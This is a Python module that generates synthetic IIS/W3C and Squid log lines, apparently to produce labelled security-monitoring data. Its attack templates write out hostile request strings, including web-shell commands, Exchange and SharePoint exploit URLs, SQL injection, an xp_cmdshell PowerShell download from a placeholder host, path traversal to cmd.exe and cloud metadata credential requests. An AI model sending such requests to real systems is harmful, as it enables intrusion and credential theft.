"""IIS and other W3C extended logs under their `#Fields`, and Squid's native log."""

from __future__ import annotations

from generator.families.network.envelope import Envelope
from generator.families.network.product_story import catalogue_in_parts
from generator.families.network.product_values import ProductValues
from generator.world import World

_layouts = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    "date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs-version cs(User-Agent) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken",
    "date time c-ip cs-username s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)",
)


def _row(envelope: Envelope, values: ProductValues, message: str) -> str:
    """`method stem query status client user | agent` as a row; the first of a scene mostly below the head."""
    world = envelope.world
    head, _, agent = message.partition(" | ")
    method, stem, query, status, client, user = head.split(" ")
    layout = str(envelope.kept.setdefault("layout", world.pick(_layouts)))
    cells = {
        "date": f"{world.now:%Y-%m-%d}", "time": f"{world.now:%H:%M:%S}", "s-sitename": "W3SVC1", "s-computername": envelope.name.upper(), "s-ip": str(values["lan9"]), "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": query, "s-port": "443", "cs-username": user, "c-ip": client,
        "cs-version": "HTTP/1.1", "cs(User-Agent)": agent.replace(" ", "+"), "cs(Referer)": "-", "sc-status": status, "sc-substatus": "0", "sc-win32-status": "0", "sc-bytes": str(world.number(200, 90000)), "cs-bytes": str(world.number(100, 4000)), "time-taken": str(world.number(1, 4000)),
    }
    row = " ".join(cells[name] for name in layout.split(" "))
    if "headed" in envelope.kept:
        return row
    envelope.kept["headed"] = True
    return row if _headless(world) else f"#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: {world.now:%Y-%m-%d %H:%M:%S}\n#Fields: {layout}\n{row}"


def _headless(world: World) -> bool:
    return world.chance(0.25)


catalogue_in_parts("servers/w3c-sites", _row, r"""
WS POST /<<aspnet_client/system_web|owa/auth|uploads|images>>/{word}.<<aspx|ashx>> <<-|cmd=whoami|c=ipconfig>> 200 {wan} - | <<python-requests/2.31.0|Mozilla/5.0|antSword/v2.1>>
WS GET /<<shell|{word}|cmd>>.aspx cmd=<<whoami|net+user|dir+c:%5c|powershell+-enc+{long}>> 200 {wan} - | {agent}
RX POST /autodiscover/autodiscover.json @{ext}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@{ext} 200 {wan} - | <<python-requests/2.31.0|Mozilla/5.0>>
RX POST /<<ews/exchange.asmx|ecp/y.js|owa/auth/x.js>> X-BEResource=localhost~1942062522 <<200|241>> {wan} - | ExchangeServicesClient/0.0.0.0
RX POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx <<200|302>> {wan} - | Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0
SQ GET /products.aspx id=1%27+UNION+SELECT+name,password+FROM+users-- <<200|500>> {wan} - | <<sqlmap/1.8|{agent}>>
SQ GET /default.asp id=1;exec+master..xp_cmdshell+%27powershell+iwr+http://{wan2}/{word}%27 <<200|500>> {wan} - | {agent}
PA GET /scripts/..%255c..%255cwindows/system32/cmd.exe /c+dir <<200|404>> {wan} - | {agent}
BF# POST /<<owa/auth.owa|RDWeb/Pages/en-US/login.aspx|adfs/ls/>> - <<401|302>> {wan} - | <<python-requests/2.31.0|{agent}>>
PS# POST /Microsoft-Server-ActiveSync/default.eas User={guest}&DeviceType=WindowsMail&Cmd=FolderSync 401 {wan} {company}\{guest} | python-requests/2.31.0
RE# GET /<<admin/|.env|wp-login.php|backup.zip|web.config.bak|phpmyadmin/index.php|.git/HEAD|trace.axd|elmah.axd>> - 404 {wan} - | <<{agent}|Mozilla/5.0 (compatible; Nmap Scripting Engine)|Fuzz Faster U Fool v2.1>>
DE@T1041,T1567 GET /downloads/{word}.7z - 200 {wan} - | curl/8.5.0
+ POST /aspnet_client/{word}.aspx cmd=del+/q+C:%5cinetpub%5cwwwroot%5cdownloads%5c{word}.7z 200 {wan} - | python-requests/2.31.0
""", r"""
NT GET /<<|index.html|products/list.aspx|css/site.css|images/logo.png|Content/bundle.js|favicon.ico>> <<-|v={id}|page={n}>> <<200|304>> {any} - | {agent}
LO POST /<<owa/auth.owa|RDWeb/Pages/en-US/login.aspx|adfs/ls/|account/login>> - 302 {any} <<-|{company}\{user}>> | {agent}
MP. POST /<<owa/auth.owa|account/login|RDWeb/Pages/en-US/login.aspx>> - <<401|200>> {any} - | {agent}
NT POST /<<ews/exchange.asmx|mapi/emsmdb/|autodiscover/autodiscover.xml|Microsoft-Server-ActiveSync/default.eas>> <<-|MailboxId={uuid}@{domain}|User={user}&DeviceType=iPhone&Cmd=Sync>> <<200|401|440>> {any} {mail} | <<Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0)|Apple-iPhone14C2/2105.230|Outlook-iOS/2.0>>
NT GET /_layouts/15/<<start.aspx|viewlsts.aspx|ToolPane.aspx>> <<-|DisplayMode=Edit>> <<200|302|401>> {lan} {company}\{user} | {agent}
BN. GET /<<wp-login.php|.env|.well-known/security.txt|robots.txt|phpmyadmin/>> - 404 {wan} - | <<{agent}|Mozilla/5.0 (compatible; CensysInspect/1.1)>>
NT GET /<<robots.txt|sitemap.xml|products/{word}.aspx>> - <<200|404|301>> {wan} - | <<Mozilla/5.0 (compatible; Googlebot/2.1)|Mozilla/5.0 (compatible; bingbot/2.0)|Mozilla/5.0 (compatible; AhrefsBot/7.0)>>
ER GET /<<api/orders|reports/{word}.aspx|services/calc.svc>> <<-|id={id}>> <<500|503|404|400>> {any} - | {agent}
MO GET /<<health|owa/healthcheck.htm|iisstart.htm>> - 200 {lan} - | <<ELB-HealthChecker/2.0|PRTG Network Monitor|check_http/v2.3|Uptime-Kuma/1.23>>
SC GET /<<admin/|trace.axd|{word}.aspx>> - 404 {lan} - | <<Nessus|Mozilla/5.0 (compatible; Qualys)|OpenVAS>>
AD GET /<<ecp/|WSUSAdmin|powershell>> <<-|serializationLevel=Full;ExchClientVer=15.2>> <<200|401>> {lan} {company}\{adm} | <<{agent}|Microsoft WinRM Client>>
NT POST /<<ClientWebService/client.asmx|SimpleAuthWebService/SimpleAuth.asmx|CertSrv/mscep/mscep.dll>> - 200 {lan} - | Windows-Update-Agent/10.0 Client-Protocol/2.71
NT GET /downloads/{word}.<<pdf|zip|exe>> - <<200|206>> {any} - | <<{agent}|Microsoft BITS/7.8|curl/8.5.0>>
NT GET /search.aspx q=<<union+jacket|select+size|drop+table+cloth|o%27brien|cmd+strip>> 200 {any} - | {agent}
""")

catalogue_in_parts("servers/squid-native", ("={epoch}    {n} {msg}", "={epoch} {big} {msg}", "squid|{epoch}    {n} {msg}", "(squid-1)|{epoch}     {n} {msg}"), r"""
C2 {lan} TCP_MISS/200 {n} POST http://{dga}/<<gate.php|submit.php?id={id}|panel/tasks.php>> - HIER_DIRECT/{wan} text/html
C2 {lan} TCP_TUNNEL/200 {big} CONNECT {wan}:4444 - HIER_DIRECT/{wan} -
MW {lan} TCP_MISS/200 {big} GET http://{wan}/{word}.<<exe|ps1|hta|dll>> {user} HIER_DIRECT/{wan} application/<<x-dosexec|octet-stream|hta>>
EX@T1567.002 {lan} TCP_TUNNEL/200 {huge} CONNECT <<g.api.mega.co.nz|transfer.sh|api.anonfiles.com|store{n}.gofile.io>>:443 {user} HIER_DIRECT/{wan} -
CM@T1496.001 {lan} TCP_TUNNEL/200 {big} CONNECT <<pool.supportxmr.com|xmr-eu1.nanopool.org|rx.unmineable.com>>:443 - HIER_DIRECT/{wan} -
PH {lan} TCP_MISS/200 {big} POST http://{dga}/<<office365/login.php|owa/auth/next.php|dhl/pay.php>> {user} HIER_DIRECT/{wan} text/html
BF# {lan} TCP_DENIED/407 {big} CONNECT {site}:443 {guest} HIER_NONE/- text/html
C2@T1090 {wan} TCP_TUNNEL/200 {big} CONNECT {wan2}:<<25|443>> - HIER_DIRECT/{wan2} -
+ {wan} TCP_MISS/200 {big} GET http://{site}/ip - HIER_DIRECT/{wan2} text/plain
SR {lan} TCP_MISS/200 {big} GET http://169.254.169.254/latest/meta-data/iam/security-credentials/<<admin|{word}>> - HIER_DIRECT/169.254.169.254 text/plain
""", r"""
NT {lan} TCP_TUNNEL/200 {big} CONNECT {site}:443 <<-|{user}>> HIER_DIRECT/{wan} -
NT {lan} TCP_<<MISS|HIT|MEM_HIT|REFRESH_UNMODIFIED>>/<<200|304|206>> {big} GET http://{site}/<<connecttest.txt|msdownload/update/{word}.cab|debian/dists/stable/InRelease|logo.png>> <<-|{user}>> HIER_<<DIRECT/{wan}|NONE/->> <<text/plain|application/octet-stream|image/png>>
BN {lan} TCP_DENIED/403 {big} <<CONNECT {ext}:443|GET http://{ext}/>> <<-|{user}>> HIER_NONE/- text/html
BN {wan} TCP_DENIED/403 {big} <<CONNECT {wan2}:443|GET http://{ext}/>> - HIER_NONE/- text/html
NS. {lan} TCP_DENIED/407 {big} CONNECT {site}:443 - HIER_NONE/- text/html
MP. {lan} TCP_DENIED/407 {big} CONNECT {site}:443 {user} HIER_NONE/- text/html
ER {lan} <<TCP_MISS/503|TCP_MISS_ABORTED/000|NONE/400|TCP_MISS/502|NONE_NONE/000|TCP_TUNNEL/503>> {n} <<CONNECT {site}:443|GET http://{ext}/>> - HIER_<<NONE/-|DIRECT/{wan}>> text/html
UP {lan} TCP_MISS/206 {big} GET http://{site}/<<edgedl/chrome/{word}.exe|setup/{word}.exe|c/msdownload/{word}.psf>> - HIER_DIRECT/{wan} application/octet-stream
BA {lan} TCP_TUNNEL/200 {huge} CONNECT <<api.onedrive.com|{word}.blob.core.windows.net|s3.eu-central-1.amazonaws.com|api.dropboxapi.com>>:443 <<{user}|->> HIER_DIRECT/{wan} -
NT {lan} TCP_MISS/200 {n} POST http://<<ocsp.digicert.com|r3.o.lencr.org|{site}>>/ - HIER_DIRECT/{wan} application/ocsp-response
MO {lan} TCP_MISS/200 {big} GET cache_object://localhost/<<info|counters>> - HIER_NONE/- text/plain
NT {lan} TCP_TUNNEL/200 {big} CONNECT {wan}:<<443|8443|5228>> - HIER_DIRECT/{wan} -
""")
